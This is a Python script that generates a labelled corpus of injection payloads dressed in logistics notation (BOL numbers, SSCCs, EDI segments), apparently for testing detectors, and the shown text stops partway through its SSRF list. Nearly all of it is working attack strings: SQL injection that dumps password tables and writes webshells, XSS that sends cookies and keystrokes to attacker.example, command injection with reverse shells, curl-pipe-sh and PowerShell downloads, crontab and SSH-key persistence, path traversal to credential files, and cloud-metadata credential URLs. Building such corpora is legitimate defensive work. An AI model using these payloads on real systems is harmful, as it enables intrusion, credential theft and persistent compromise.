"""Held-out attack corpus: logistics and supply-chain fields (ha33).

Each value is a working payload for a vulnerable application that puts the
field where its class says: a tracking/BOL search concatenated into SQL, a
delivery note rendered into the driver web app without escaping, a label or
EDI file name passed to a shell line, a document name joined to a file path,
a carrier webhook / logo URL fetched by the server, a label or notification
template rendered server-side, a shipment JSON filter handed to MongoDB, a
driver message written to a log line or a mail/HTTP header, a driver
directory lookup built into an LDAP filter or an XPath over shipment XML.

Most payloads hide inside the corpus's own notations: container numbers,
SSCCs, X12 / EDIFACT segments, HS codes, incoterms, bin codes, POD notes.
About 10% are `plain-` classes (no domain wrapping) and about 10% carry an
encoding (suffix `+<encoding>` in the class).

Every value was written for this corpus from an understanding of how each
technique works; encodings and alternative IP forms are computed by small
templates.  Output is byte-identical on every run: one fixed
random.Random(SEED), no set iteration.

Run:  python3 make_attacks.py   (writes attacks.jsonl next to this file)
"""

import base64
import json
import random
import sys
import urllib.parse
from pathlib import Path

SEED = 3302
PREFIX = "ha33"
MAX_LEN = 1800

# ---------------------------------------------------------------------------
# sqli — value concatenated into a SQL statement (string context unless the
# class says numeric / orderby / in-list / insert / like / limit)
# ---------------------------------------------------------------------------
SQLI = [
    ("container-search-union", "MRKU2219874' UNION SELECT username, password_hash, NULL, NULL FROM portal_users-- -"),
    ("bol-ref-union-nullcols", "SH771203' UNION ALL SELECT NULL,NULL,NULL,table_name,NULL FROM information_schema.tables WHERE table_schema=database()#"),
    ("awb-lookup-boolean-substring", "176-12345675' AND SUBSTRING((SELECT api_secret FROM carrier_accounts LIMIT 1),1,1)='k"),
    ("po-number-numeric-boolean", "4500012345 AND 1=(SELECT COUNT(*) FROM users WHERE role='admin' AND LENGTH(password)>20)"),
    ("shipment-id-numeric-time-mysql", "771203 AND SLEEP(7)"),
    ("tracking-search-stacked-pgsleep", "SH771203'; SELECT pg_sleep(8)--"),
    ("consignee-filter-escaped-quote-waitfor", "O''Neill Fabrications'; WAITFOR DELAY '0:0:9'--"),
    ("hs-code-error-extractvalue", "8471.30' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT CONCAT(user(),0x3a,version())),0x7e))-- "),
    ("bin-location-error-updatexml", "A-12-03/B' OR UPDATEXML(NULL,CONCAT(0x2e,(SELECT password FROM wms_users WHERE login='supervisor')),NULL)-- -"),
    ("sscc-lookup-error-pg-cast", "003401234500000123' AND 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)--"),
    ("edi-ref-stacked-xpcmdshell", "SH771203'; EXEC master..xp_cmdshell 'powershell -c iwr http://203.0.113.44/s.ps1|iex'--"),
    ("route-sort-orderby-case", "eta, (CASE WHEN (SELECT SUBSTR(token,1,1) FROM api_tokens WHERE id=1)='a' THEN eta ELSE carrier END)"),
    ("carrier-name-like-tautology", "DB Schen%' OR '1'='1' -- "),
    ("delivery-note-insert-subquery", "Call before delivery', (SELECT GROUP_CONCAT(email,':',password) FROM users))-- -"),
    ("pod-status-stacked-update", "delivered'; UPDATE invoices SET amount=0 WHERE customer_id=4471;--"),
    ("cmr-number-oracle-time", "CMR0045821' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',8)--"),
    ("bol-ref-oracle-oob-dns", "SH771203' UNION SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.ora.attacker.example'),NULL FROM dual--"),
    ("hawb-search-oracle-union", "HBL-000912' UNION SELECT owner||'.'||table_name, NULL FROM all_tables--"),
    ("mawb-search-mssql-oob-dirtree", "MAWB 125-44102233'; DECLARE @q varchar(200); SET @q='\\\\'+(SELECT TOP 1 login FROM dbo.drivers)+'.mss.attacker.example\\a'; EXEC master.dbo.xp_dirtree @q;--"),
    ("packing-list-sqlite-master", "PL-2291' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--"),
    ("packing-list-sqlite-randomblob-time", "PL-2291' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("invoice-ref-union-loadfile", "INV-2024-0042' UNION SELECT LOAD_FILE('/etc/mysql/debian.cnf'),2,3-- -"),
    ("pod-ref-union-into-outfile", "POD-4471' UNION SELECT '<?php system($_GET[\"c\"]); ?>',NULL INTO OUTFILE '/var/www/html/pod/c.php'-- -"),
    ("tracking-search-pg-copy-program", "SH771203'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/x|sh';--"),
    ("driver-login-comment-truncation", "dispatcher'-- "),
    ("carrier-login-tautology-comment", "supervisor' OR 'a'='a' /*"),
    ("shipment-id-numeric-union", "-1 UNION SELECT 1,concat_ws(0x3a,login,pass_hash),3,4 FROM wms_users"),
    ("bol-ref-union+comment-space", "SH771203'/**/UNION/**/SELECT/**/api_key,NULL/**/FROM/**/integrations#"),
    ("bol-ref-versioned-comment-union", "SH771203' /*!50000UNION*/ /*!50000SELECT*/ secret,2 FROM webhooks-- -"),
    ("container-search-union+case-mix", "MEDU4471129' uNiOn SeLeCt login,pwd fRoM drivers-- -"),
    ("awb-lookup-union-hex-path", "618-44271163' UNION SELECT 1,load_file(0x2f6574632f706173737764)-- -"),
    ("driver-login-char-function", "' OR username=CHAR(115,117,112,101,114,118,105,115,111,114)-- "),
    ("edi-b10-element-tautology", "ST*214*0001~B10*PRO0412998810' OR '1'='1*SH771203*NBFT~"),
    ("edifact-rff-release-char-union", "RFF+BN:HLCU240512345?' UNION SELECT user_name,pass FROM edi_partners--'"),
    ("incoterm-filter-paren-subselect-sleep", "EXW') AND (SELECT 1 FROM (SELECT SLEEP(6))a)-- -"),
    ("origin-country-blind-binary-search", "CN' AND 0x31=(SELECT IF(ASCII(SUBSTRING(DATABASE(),1,1))>109,0x31,0x30))-- "),
    ("pallet-id-numeric-paren-pg-superuser", "1) OR (SELECT current_setting('is_superuser'))='on'--"),
    ("container-search-double-query-error", "TGHU8721045' AND (SELECT 4471 FROM (SELECT COUNT(*),CONCAT((SELECT api_key FROM carriers LIMIT 0,1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- "),
    ("bol-ref-mssql-convert-error", "SH771203' AND 1=CONVERT(int,(SELECT TOP 1 name+':'+password_hash FROM sys.sql_logins))--"),
    ("customer-ref-stacked-insert-admin", "Q3-PROMO'; INSERT INTO portal_users(login,pwd,role) VALUES('ops2','$2y$10$AAAAAAAAAAAAAAAAAAAAAu','admin');--"),
    ("dropship-ref-stacked-drop-table", "DROP-SHIP-0771'; DROP TABLE shipment_events;--"),
    ("pod-ref-stacked-truncate-audit", "POD 4471'; TRUNCATE TABLE audit_log; --"),
    ("bol-ref-mssql-having-error", "SH771203' GROUP BY shipments.id HAVING 1=1--"),
    ("page-size-limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("bol-ref-pg-blind-ascii", "SH771203' AND (SELECT ascii(substr(passwd,1,1)) FROM pg_shadow LIMIT 1)>100--"),
    ("consignee-name-second-order-union", "Harbourview Foods' UNION SELECT card_number,expiry FROM payments-- "),
    ("pod-note-sqlite-attach-webshell", "x'; ATTACH DATABASE '/var/www/html/pod/s.php' AS s; CREATE TABLE s.t(c text); INSERT INTO s.t VALUES('<?php system($_GET[0]);?>');--"),
    ("tracking-search-heavy-join-time", "SH771203' AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)>0-- "),
    ("container-search-benchmark-time", "MSCU4812307' AND BENCHMARK(40000000,SHA1('dock3'))-- -"),
    ("address-multiline-union", "Unit 5, Quayside Road\nHull HU1 2AB' UNION SELECT password FROM users-- "),
    ("pallet-id-numeric-stacked-pg-conditional", "1;SELECT CASE WHEN (SELECT COUNT(*) FROM users WHERE role='admin')>0 THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
    ("shipment-ids-in-list-tautology", "4471,4472) OR 1=1 OR id IN (0"),
    ("bol-ref-dquote-tautology", "SH771203\" OR \"\"=\""),
    ("pallet-id-pg-dollar-quote-stored-xss", "1; INSERT INTO notes(body) VALUES ($$<script src=//attacker.example/n.js></script>$$)--"),
    ("bol-ref-oracle-ctxsys-error", "SH771203' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("hawb-search-oracle-xmltype-error", "HBL-000913' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT banner FROM v$version WHERE ROWNUM=1)||CHR(62))) FROM dual)--"),
    ("hs-code-numeric-tautology", "8471 OR 1=1"),
    ("tracking-search-pg-concat-reflect", "SH771203'||(SELECT version())||'"),
    ("seal-number-mssql-stacked-config", "ML-0047712'; EXEC sp_configure 'show advanced options',1;RECONFIGURE;--"),
    ("rate-card-json-filter-union", "{\"lane\": \"HAM-WAW' UNION SELECT iban, swift FROM bank_accounts-- \"}"),
    ("plain-tautology", "' OR '1'='1"),
    ("plain-orderby-column-count", "1' ORDER BY 9-- -"),
    ("plain-comment-admin", "admin' --"),
    ("plain-paren-tautology", "') OR ('x'='x"),
    ("plain-union-version", "1 UNION SELECT @@version,NULL--"),
    ("plain-stacked-shutdown", "'; SHUTDOWN WITH NOWAIT;--"),
    ("plain-time-sleep", "1' AND SLEEP(5)-- -"),
]

SQL_REFS = ["SH771203", "MRKU2219874", "PL-2291", "HBL-000912", "BOL 7781-22", "A-12-03/B", "NB7781220412"]
SQL_TABLES = [("portal_users", "login", "pwd_hash"), ("carrier_accounts", "account_no", "api_secret"),
              ("drivers", "badge", "pin"), ("edi_partners", "isa_id", "as2_password")]


def tpl_sqli(rng):
    ref = rng.choice(SQL_REFS)
    tbl, c1, c2 = rng.choice(SQL_TABLES)
    kind = rng.randint(0, 2)
    if kind == 0:
        return ("tracking-search-union", "%s' UNION SELECT %s,%s FROM %s-- -" % (ref, c1, c2, tbl))
    if kind == 1:
        return ("tracking-search-blind-ascii",
                "%s' AND ASCII(SUBSTRING((SELECT %s FROM %s LIMIT 1),%d,1))>%d-- -" % (ref, c2, tbl, rng.randint(1, 16), rng.randint(48, 122)))
    return ("tracking-search-conditional-sleep",
            "%s' AND IF((SELECT COUNT(*) FROM %s)>%d,SLEEP(%d),0)-- -" % (ref, tbl, rng.randint(1, 50), rng.randint(4, 9)))


# ---------------------------------------------------------------------------
# xss — value rendered into the portal / driver app / tracking page HTML
# ---------------------------------------------------------------------------
XSS = [
    ("delivery-note-script-cookie-exfil", "Leave at dock 3 <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("pod-signer-img-onerror", "J. Smith<img src=x onerror=\"new Image().src='//attacker.example/p?c='+encodeURIComponent(document.cookie)\">"),
    ("incident-report-svg-onload", "Carton crushed at corner <svg onload=alert(document.domain)>"),
    ("bin-location-attr-breakout-autofocus", "A-12-03/B\" autofocus onfocus=\"alert(1)"),
    ("tracking-ref-squote-attr-mouseover", "SH771203' onmouseover='location=\"//attacker.example/?\"+document.cookie"),
    ("tracking-ref-js-string-breakout", "SH771203';fetch('//attacker.example/k',{method:'POST',body:localStorage.getItem('token')});//"),
    ("tracking-ref-js-dquote-arith", "SH771203\"-alert(document.cookie)-\""),
    ("eta-widget-script-block-breakout", "</script><script>alert(origin)</script>"),
    ("carrier-website-javascript-url", "javascript:alert(document.domain)//track"),
    ("carrier-website-javascript-url+tab", "jav\tascript:alert(document.cookie)"),
    ("carrier-website-data-url+base64", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("packing-list-textarea-breakout", "Qty 48 x 4471-BLK</textarea><img src=x onerror=alert(1)>"),
    ("shipment-title-title-breakout", "SH771203 urgent</title><script>alert(1)</script>"),
    ("pod-note-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("damage-report-details-ontoggle", "2 cases missing <details open ontoggle=alert(document.cookie)>"),
    ("driver-message-input-autofocus", "running late <input autofocus onfocus=alert(1)>"),
    ("pod-photo-caption-video-source-onerror", "Photo 3 of 4 <video><source onerror=\"alert(1)\"></video>"),
    ("route-plan-marquee-onstart", "Drop 1 Leeds <marquee onstart=alert(1)>"),
    ("hazmat-note-svg-animate-onbegin", "UN1263 <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("tracking-event-svg-anchor-js", "<svg><a href=\"javascript:alert(1)\"><text x=10 y=20>Track shipment</text></a></svg>"),
    ("delivery-note-base-href-hijack", "Ring twice <base href=\"//attacker.example/\">"),
    ("pod-note-meta-refresh-phish", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/portal-login\">"),
    ("pod-note-form-credential-phish", "<form action=https://attacker.example/pod><input name=pw type=password placeholder=\"Re-enter password to sign POD\"><button>Sign POD</button></form>"),
    ("ops-comment-markdown-js-link", "[Open BOL 7781](javascript:alert(document.domain))"),
    ("tracking-ref-js-template-literal", "SH771203${alert(document.domain)}"),
    ("tracking-page-angularjs-csti", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("customs-note-vue-csti", "{{_c.constructor('fetch(\"//attacker.example/v?\"+document.cookie)')()}}"),
    ("eta-widget-json-script-breakout", "</script><svg onload=alert(1)>"),
    ("carrier-website-href+html-entities", "javascript&#58;alert(document.cookie)"),
    ("tracking-ref-js-string+unicode-escape", "';\\u0061lert(document.domain)//"),
    ("delivery-note-script+case-mix", "Gate C <ScRiPt>alert(1)</sCrIpT>"),
    ("incident-report-img-newline-attrs", "Pallet 4 pierced <img\nsrc=x\nonerror=alert(1)>"),
    ("pod-signer-svg-slash-separator", "Tom W.<svg/onload=alert(1)>"),
    ("damage-note-img-tagged-template", "<img src=x onerror=alert`document.domain`>"),
    ("pod-note-img-throw-onerror", "<img src=x onerror=\"window.onerror=alert;throw document.cookie\">"),
    ("pod-link-onclick-api-exfil", "<a href=# onclick=\"fetch('/api/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example/u',t))\">View POD</a>"),
    ("tracking-widget-iframe-js-src", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("driver-chat-keylogger", "on my way <script>document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)</script>"),
    ("delivery-note-external-script", "Call 10 min before <script src=https://attacker.example/wms.js></script>"),
    ("pod-filename-attr-breakout-svg", "pod_4471.jpg\"><svg onload=alert(1)>"),
    ("edi-viewer-n1-img-onerror", "N1*ST*<img src=x onerror=alert(document.domain)>*92*4471~"),
    ("edi-viewer-ftx-script", "FTX+DEL+++<script>alert(1)</script>'"),
    ("hs-description-iframe-phish", "Laptops 8471.30 <iframe src=//attacker.example/phish width=800 height=600 frameborder=0>"),
    ("address-label-br-img-onerror", "Unit 5<br><img src=x onerror=alert(1)>Quayside Rd"),
    ("pod-note-dangling-markup", "Signed OK <img src='https://attacker.example/collect?"),
    ("delivery-note-style-import", "Dock 3 <style>@import'//attacker.example/x.css';</style>"),
    ("incident-report-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("customs-note-svg-style-mxss", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("driver-message-xmp-mxss", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">"),
    ("tracking-url-hash-dom-xss", "https://track.northbay-freight.example/#<img src=x onerror=alert(document.domain)>"),
    ("rate-quote-img-eval-atob+base64", "Q-2024-0871 <img src=x:x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))>"),
    ("incident-report-multiline-script", "Incident IR-2024-119\nLocation: dock 3\n<script>\nnew Image().src='//attacker.example/i?'+document.cookie\n</script>"),
    ("seal-number-attr-unquoted-event", "ML-0047712 onpointerenter=alert(1) x="),
    ("customer-name-title-svg-onload", "D'Angelo & Sons\"><svg onload=confirm(document.domain)>"),
    ("route-note-body-onpageshow", "Avoid A34 <body onpageshow=alert(1)>"),
    ("pod-signer-anchor-js-scheme+case-mix", "Tom W. <a href=\"jAvAsCrIpT:alert(document.domain)\">view signature</a>"),
    ("consignee-name-audio-onerror", "Mrs O'Hara <audio src=x onerror=alert(1)>"),
    ("dg-note-form-formaction", "UN1993 <form><button formaction=javascript:alert(document.cookie)>Confirm DG</button></form>"),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-attr-breakout-svg", "\"><svg onload=alert(1)>"),
    ("plain-js-squote-arith", "'-alert(1)-'"),
    ("plain-img-onerror", "<img src=1 onerror=prompt(1)>"),
    ("plain-iframe-js", "<iframe src=javascript:alert(1)>"),
    ("plain-body-onload", "<body onload=alert(document.domain)>"),
    ("plain-svg-slash-onload", "<svg/onload=alert(document.cookie)>"),
]

XSS_PAIRS = [
    ("img", "src=x onerror"), ("svg", "onload"), ("details", "open ontoggle"), ("input", "autofocus onfocus"),
    ("video", "src=x onerror"), ("body", "onpageshow"), ("select", "autofocus onfocus"), ("textarea", "autofocus onfocus"),
]
XSS_ACTIONS = [
    "alert(document.domain)", "fetch('//attacker.example/s?'+document.cookie)",
    "location='//attacker.example/l?'+document.cookie", "navigator.sendBeacon('//attacker.example/b',document.cookie)",
]
XSS_PREFIXES = ["Leave at dock 3 ", "POD: Tom W. ", "Seal ML-0047712 ", "Bin A-12-03/B ", "", "Damaged carton "]


def tpl_xss(rng):
    tag, attr = rng.choice(XSS_PAIRS)
    return ("note-field-event-handler",
            "%s<%s %s=%s>" % (rng.choice(XSS_PREFIXES), tag, attr, rng.choice(XSS_ACTIONS)))


# ---------------------------------------------------------------------------
# cmdi — value placed into a shell line (label printing, EDI translation,
# carrier host checks, POD image conversion, document bundling)
# ---------------------------------------------------------------------------
CMDI = [
    ("label-print-semicolon-curl-sh", "SSCC-003401234500000123; curl -s http://203.0.113.17/l.sh | sh"),
    ("label-printer-and-shadow-copy", "dock3 && cat /etc/shadow > /var/www/html/pod/s.txt"),
    ("bin-label-pipe-netcat", "A-12-03/B | nc 198.51.100.23 4444 -e /bin/sh"),
    ("edi-file-or-wget-bash", "SH771203 || wget -qO- http://attacker.example/p | bash"),
    ("container-lookup-backticks", "MRKU2219874`id`"),
    ("container-lookup-subshell-post", "MRKU2219874$(curl -d @/etc/passwd http://attacker.example/up)"),
    ("label-print-newline-revshell", "SH771203\nbash -i >& /dev/tcp/203.0.113.50/443 0>&1"),
    ("carrier-host-check-ifs", "carrier-gw.example;cat${IFS}/etc/passwd"),
    ("edi-archive-brace-expansion", "x;{wget,-q,-O,/tmp/x,http://203.0.113.8/x};sh${IFS}/tmp/x"),
    ("label-print-glob-obfuscation", "SH771203;/???/?at /???/p??s??"),
    ("label-print-path-substring", "x;cat${PATH:0:1}etc${PATH:0:1}passwd"),
    ("label-file-squote-breakout-rm", "label.zpl'; rm -rf /srv/labels/*; echo '"),
    ("po-arg-dquote-breakout", "4471\" ; id ; \""),
    ("sftp-host-ssh-proxycommand", "-oProxyCommand=sh -c 'curl http://attacker.example/p|sh' sftp.partner.example"),
    ("edi-archive-tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("edi-fetch-url-curl-output-arg", "https://edi.partner.example/in.edi -o /var/www/html/pod/sh.php"),
    ("archive-search-find-exec", "*.edi -exec sh -c 'id>/tmp/o' \\;"),
    ("bol-pdf-windows-ampersand-type", "BOL_7781.pdf & type C:\\Windows\\win.ini"),
    ("invoice-windows-pipe-powershell", "INV-0042 | powershell -nop -w hidden -c \"iex(iwr http://203.0.113.31/a.ps1 -UseBasicParsing)\""),
    ("customs-file-windows-comspec-unc", "MRN24GB0012 & %COMSPEC% /c whoami > \\\\203.0.113.5\\drop\\w.txt"),
    ("tracking-ping-dns-exfil", "SH771203;nslookup $(whoami).x.attacker.example"),
    ("label-print-background-sleep", "SH771203 & sleep 12 &"),
    ("carrier-host-ping-timing", "carrier-gw.example; ping -c 15 127.0.0.1"),
    ("pod-export-echo-webshell", "x; echo '<?php system($_GET[1]);?>' > /var/www/html/pod/z.php"),
    ("label-print-ansi-c-hex+ansi-c-quoting", "x;$'\\x63\\x61\\x74' /etc/passwd"),
    ("label-print-printf-octal+octal", "x;$(printf '\\151\\144')"),
    ("label-print-rev-pipe", "x;echo dwssap/cte/ tac|rev|sh"),
    ("label-print-variable-concat", "x;a=ca;b=t;$a$b /etc/passwd"),
    ("label-print-backslash-insertion", "x;c\\at /e\\tc/pa\\sswd"),
    ("label-print-empty-quotes", "x;c''at /etc/pa\"\"sswd"),
    ("edi-partner-python-revshell", "ACMEWHSE; python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.50\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("edi-partner-process-substitution", "ACMEWHSE;bash <(curl -s http://attacker.example/i)"),
    ("label-print-crontab-persistence", "x; (crontab -l; echo '* * * * * curl -s http://203.0.113.9/b|sh') | crontab -"),
    ("label-print-ssh-key-implant", "x; mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestsOnly00000000000000000000 ops' >> ~/.ssh/authorized_keys"),
    ("pod-photo-imagemagick-pipe", "|curl http://attacker.example/x|sh"),
    ("sftp-sync-rsync-e-argument", "-e 'sh -c \"id>/tmp/r\"' partner:/in/"),
    ("doc-bundle-zip-tt-argument", "BOL_7781.pdf -T -TT 'sh -c \"curl 203.0.113.9/z|sh\"'"),
    ("notify-email-sendmail-x-argument", "ops@northbay.example -X/var/www/html/pod/log.php"),
    ("scanner-diag-busybox-telnetd", "dock3; /bin/busybox telnetd -l /bin/sh -p 2323"),
    ("customs-file-certutil-download", "MRN24GB0012 & certutil -urlcache -split -f http://203.0.113.31/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
    ("customs-file-caret-escape", "MRN24GB0012 & w^h^o^a^m^i"),
    ("label-print-perl-qx", "x;perl -e 'print qx(id)'"),
    ("edi-partner-subshell-sleep", "ACMEWHSE$(sleep 9)"),
    ("edi-partner-backtick-sleep", "NORTHBAYFRT`sleep 9`"),
    ("edi-gs-sender-subshell", "GS*SM*NORTHBAYFRT$(id>/tmp/g)*ACMEWHSE*20240611*0932*4471*X*004010~"),
    ("edifact-unb-sender-backticks", "UNB+UNOC:3+NBFREIGHT`curl attacker.example/u|sh`:ZZZ+ACMEWMS:ZZZ+240611:0932+4471'"),
    ("delivery-note-notify-script-curl-upload", "Leave at dock 3; call 10 min before; curl -F f=@/etc/passwd http://attacker.example/u"),
    ("label-print-dev-tcp-fetch", "x;exec 3<>/dev/tcp/203.0.113.50/80;echo -e \"GET /k HTTP/1.0\\n\\n\">&3;cat<&3|sh"),
    ("label-print-node-child-process", "x; node -e \"require('child_process').exec('id > /tmp/n')\""),
    ("label-print-ifs-dollar9", "x;cat$IFS$9/etc/shadow"),
    ("label-print-dollar0-shell", "x;echo id|$0"),
    ("label-print-tab-separator", "x;cat\t/etc/passwd"),
    ("route-export-filename-semicolon-mail", "route_2024-06-11.csv; mail -s loot exfil@attacker.example < /etc/passwd"),
    ("pod-photo-convert-subshell-filename", "IMG_2291$(wget -q http://203.0.113.8/m -O /tmp/m;sh /tmp/m).jpg"),
    ("carrier-host-check-newline-uname", "carrier-gw.example\nuname -a > /var/www/html/u.txt"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-whoami", "| whoami"),
    ("plain-and-uname", "&& uname -a"),
    ("plain-subshell-whoami", "$(whoami)"),
    ("plain-backtick-id", "`id`"),
    ("plain-semicolon-cat-passwd", ";cat /etc/passwd"),
    ("plain-windows-ping-timing", "| ping -n 10 127.0.0.1"),
    ("plain-newline-id", "\nid"),
]

CMD_REFS = ["SH771203", "SSCC-003401234500000123", "A-12-03/B", "dock3", "PL-2291", "MRKU2219874"]
CMD_SEPS = [(";", "semicolon"), ("&&", "and"), ("|", "pipe"), ("||", "or"), ("\n", "newline")]
CMD_TAILS = ["id", "cat /etc/passwd", "curl -s http://203.0.113.17/s|sh", "wget -qO- http://attacker.example/w|sh",
             "sleep 11", "uname -a", "nc 198.51.100.23 4444 -e /bin/sh"]


def tpl_cmdi(rng):
    sep, sname = rng.choice(CMD_SEPS)
    pad = "" if sep == "\n" else rng.choice(["", " "])
    return ("label-print-%s" % sname, "%s%s%s%s" % (rng.choice(CMD_REFS), pad, sep, pad + rng.choice(CMD_TAILS)))


# ---------------------------------------------------------------------------
# traversal — value joined to a base directory and opened / extracted
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("bol-download-dotdot-passwd", "../../../../etc/passwd"),
    ("bol-download-year-folder-dotdot", "bol/2024/../../../../../etc/shadow"),
    ("invoice-download-windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("customs-attachment-windows-webconfig", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("pod-photo-absolute-path", "/etc/passwd"),
    ("customs-attachment-absolute-windows", "C:\\ProgramData\\CustomsBroker\\config\\db.ini"),
    ("label-template-strip-bypass-dotdotslash", "....//....//....//....//etc/passwd"),
    ("label-template-tomcat-semicolon", "/labels/..;/..;/WEB-INF/web.xml"),
    ("bol-download-null-byte+urlenc", "../../../../etc/passwd%00.pdf"),
    ("pod-photo-proc-environ", "../../../../proc/self/environ"),
    ("edi-archive-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("report-template-dotenv", "../../../../srv/tms/.env"),
    ("bol-download-ssh-key", "../../../../root/.ssh/id_rsa"),
    ("pod-photo-aws-credentials", "../../../home/ubuntu/.aws/credentials"),
    ("customs-attachment-file-scheme", "file:///srv/tms/.env"),
    ("pod-zip-entry-zip-slip-webshell", "../../../../var/www/html/pod/shell.php"),
    ("edi-zip-entry-zip-slip-windows-startup", "..\\..\\..\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\upd.bat"),
    ("lang-param-log-poisoning", "../../../../var/log/nginx/access.log"),
    ("label-template-php-filter", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("bol-download-mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("pod-photo-prefix-check-bypass", "/var/www/tms/uploads/../../../../etc/passwd"),
    ("label-file-dock-folder-dotdot-hosts", "labels/dock3/../../../../../../etc/hosts"),
    ("bol-download-overlong-dot-slash+overlong-utf8", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    ("invoice-download-overlong-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("customs-attachment-iis-u2215+unicode-escape", "..%u2215..%u2215..%u2215windows%u2215win.ini"),
    ("pod-photo-fullwidth+fullwidth", "．．／．．／．．／．．／etc／passwd"),
    ("label-file-sscc-folder-dotdot", "00340123450000447163/../../../../etc/passwd"),
    ("report-template-proc-cwd-settings", "../../../../../../proc/self/cwd/config/settings.py"),
    ("edi-archive-nginx-conf", "../../../../etc/nginx/nginx.conf"),
    ("bol-download-encoded-slash+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("bol-download-encoded-dots+urlenc", "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("customs-attachment-forward-slash-windows", "C:/Windows/System32/drivers/etc/hosts"),
    ("customs-archive-dotdot-bash-history", "customs/2024/06/../../../../../../home/broker/.bash_history"),
    ("report-template-java-properties", "../../../../WEB-INF/classes/application.properties"),
    ("label-template-windows-strip-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("bol-download-nested-strip-bypass", "..././..././..././..././etc/passwd"),
    ("tls-cert-upload-dir-private-key", "/var/lib/tms/uploads/../../../../etc/ssl/private/tms.key"),
    ("pod-photo-proc-fd", "../../../../proc/self/fd/3"),
    ("carrier-doc-unc-share", "\\\\attacker.example\\share\\BOL_7781.pdf"),
    ("edi-archive-proc-cmdline", "../../../../../proc/1/cmdline"),
    ("plain-dotdot-passwd", "../../../etc/passwd"),
    ("plain-windows-sam", "..\\..\\..\\windows\\system32\\config\\sam"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("plain-dotdot-win-ini", "../../../../../../windows/win.ini"),
    ("plain-dotdot-hosts", "../../../../../etc/hosts"),
]

TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "srv/tms/.env", "root/.bash_history", "etc/hostname"]
TRAV_PREFIXES = ["", "bol/2024/06/", "labels/dock3/", "pod/", "customs/MRN24GB0012/"]


def tpl_traversal(rng):
    depth = rng.randint(3, 8)
    target = rng.choice(TRAV_TARGETS)
    prefix = rng.choice(TRAV_PREFIXES)
    enc = rng.randint(0, 2)
    if enc == 0:
        return ("document-path-dotdot", prefix + "../" * depth + target)
    if enc == 1:
        return ("document-path-dotdot+urlenc", prefix + "%2e%2e%2f" * depth + target.replace("/", "%2f"))
    return ("document-path-dotdot+double-urlenc", prefix + "%252e%252e%252f" * depth + target.replace("/", "%252f"))


# ---------------------------------------------------------------------------
# ssrf — value is a URL (or host) the server fetches: carrier webhook,
# logo / POD photo import, AS2 endpoint, customs document fetch, PDF render
# ---------------------------------------------------------------------------
SSRF = [
    ("webhook-url-aws-imds-credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("logo-url-aws-user-data", "http://169.254.169.254/latest/user-data"),
    ("webhook-url-gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token?alt=json"),
    ("webhook-url-azure-identity-token", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("logo-url-alibaba-ram-credentials", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("pod-photo-url-ecs-task-metadata", "http://169.254.170.2/v2/metadata"),
    ("webhook-url-localhost-actuator-env", "http://127.0.0.1:8080/actuator/env"),
